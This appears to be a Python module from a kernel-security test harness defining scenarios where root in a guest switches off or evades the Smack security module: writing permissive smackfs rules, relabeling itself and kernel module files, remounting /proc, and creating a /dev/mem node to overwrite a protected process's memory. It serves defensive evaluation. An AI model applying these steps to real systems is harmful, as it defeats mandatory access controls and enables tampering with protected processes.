# SPDX-License-Identifier: GPL-2.0-only
"""Attacks on a rival's policy itself: what root may do to switch Smack off, or to get round it.

Each ends in an attack of the corpus. `baseline` is the control, where there is nothing to switch
off: that shows the second half. That the first half does what it should where it is allowed, a
guest whose policy is not sealed shows (tests/system/test_smack.py).
"""

from __future__ import annotations

from contextlib import suppress
from errno import EACCES
from functools import partial
from os import O_RDONLY, O_RDWR, makedev
from resource import RLIMIT_CPU
from stat import S_IFCHR
from typing import TYPE_CHECKING

from harness.attacker.agent.errors import GuestError
from harness.model.variants import SMACK
from harness.model.verdict import Effect
from harness.scenarios.direct import proc_mem_write
from harness.scenarios.inheritance import rlimit_inherit
from harness.scenarios.registry import PTRACE_CHECK, scenario
from harness.scenarios.restarts import restart_without_threads
from harness.scenarios.rivals import asleep
from harness.scenarios.whole_kernel import module_replaced

if TYPE_CHECKING:
    from harness.attacker import Attacker
    from harness.witness.handler import Handler

SMACKFS = "/sys/fs/smackfs"
LABEL = "security.SMACK64"
FLOOR, ROOT = b"_", b"Root"
"""The labels of the handler and of the attacker (guest-images/policies/smack/)."""
PROC = "/tmp/proc"  # noqa: S108 - the guest's, not ours
NODE = "/root/mem"
"""Not on /tmp, whose nodes a Debian does not open."""

_CHANGES = {
    "onlycap": b"-",
    "ptrace": b"0",
    "load-self2": b"Root _ rwxatl\n",
    "load2": b"Root _ rwxatl\n",
    "change-rule": b"Root _ rwxatl -\n",
}
"""What is written to which file of Smack's to undo the policy."""

_ASLEEP = asleep(SMACK, "no Smack is active")

_switch_off = partial(
    scenario,
    effect=Effect.INTEGRITY,
    surface="smack-switched-off",
    answers=("C5", "L5"),
    reach=PTRACE_CHECK,
    needs=("SECURITY_SMACK",),
    not_applicable=_ASLEEP,
)
_get_round = partial(_switch_off, surface="smack-got-round")


def is_awake(attacker: Attacker) -> bool:
    """Whether there is a Smack to switch off."""
    return "smackfs" in attacker.listdir("/sys/fs")


def change_policy(attacker: Attacker) -> None:
    """Give root every access to what the handler is, and take back what else forbids it."""
    for name, text in _CHANGES.items():
        _try(attacker, f"{SMACKFS}/{name}", text)


def take_floor_label(attacker: Attacker) -> None:
    """Become what the kernel's threads are."""
    _try(attacker, f"{SMACKFS}/relabel-self", FLOOR)
    _try(attacker, "/proc/self/attr/current", FLOOR)


def relabel(attacker: Attacker, path: str) -> None:
    """Give a file the label of root's own."""
    attacker.syscall("setxattr", path, LABEL, ROOT, len(ROOT), 0)


@_switch_off()
def smack_change_policy(attacker: Attacker, handler: Handler) -> None:
    """Add the rules that are missing and lift what else forbids, then overwrite the state."""
    if is_awake(attacker):
        change_policy(attacker)
    proc_mem_write(attacker, handler)


@_switch_off()
def smack_own_label(attacker: Attacker, handler: Handler) -> None:
    """Take the handler's own label, then overwrite its state."""
    if is_awake(attacker):
        take_floor_label(attacker)
    proc_mem_write(attacker, handler)


@_switch_off(whole_kernel=True, reach="security_kernel_read_file", target="start")
def smack_relabel(attacker: Attacker, handler: Handler) -> None:
    """Give the loader the label of root's own files, then replace it."""
    if is_awake(attacker):
        with suppress(GuestError):
            relabel(attacker, f"/lib/modules/{handler.loader}.ko")
    module_replaced(attacker, handler)


@_get_round(effect=Effect.AVAILABILITY, reach=None, through="proc_dointvec_minmax", target="start")
def smack_own_proc(attacker: Attacker, handler: Handler) -> None:
    """Mount /proc once more, with root's own label as a mount has, and allow no more threads."""
    with attacker.setup():
        attacker.mkdir(PROC)
    attacker.mount("none", PROC, "proc")
    restart_without_threads(attacker, handler, proc=PROC)


@_get_round(
    reach=None,
    through="write_mem",
    whole_kernel=True,
    needs=("SECURITY_SMACK", "DEVMEM", "!STRICT_DEVMEM"),
)
def smack_own_node(attacker: Attacker, handler: Handler) -> None:
    """Make a node of root's own for all of memory, and overwrite the handler's state there."""
    attacker.syscall("mknod", NODE, S_IFCHR | 0o600, makedev(1, 1))
    with attacker.open(NODE, O_RDWR) as memory:
        memory.pwrite(b"\xff" * 32, handler.physical("chain"))


@_get_round(shows="limits", reach="security_task_setrlimit", target="start")
def smack_limits_unseen(attacker: Attacker, handler: Handler) -> None:
    """Limit whatever has a name that root may not read: the kernel's threads are among it."""
    if not is_awake(attacker):
        rlimit_inherit(attacker, handler)
        return
    for pid in filter(str.isdecimal, attacker.listdir("/proc")):
        try:
            attacker.read_file(f"/proc/{pid}/comm")
        except GuestError as error:
            if error.errno == EACCES:
                attacker.prlimit(int(pid), RLIMIT_CPU, (1, 1))


@_get_round(shows="pipes")
def smack_lose_own_rules(attacker: Attacker, handler: Handler) -> None:
    """Get new credentials by a child's keyring, without the rule against reading; open the pipe."""
    attacker.run(attacker.payload("pass_keyring"))
    with attacker.open(f"/proc/{handler.pid}/fd/0", O_RDONLY):
        handler.wait_for_request()


def _try(attacker: Attacker, path: str, text: bytes) -> None:
    with suppress(GuestError):
        attacker.write_file(path, text)
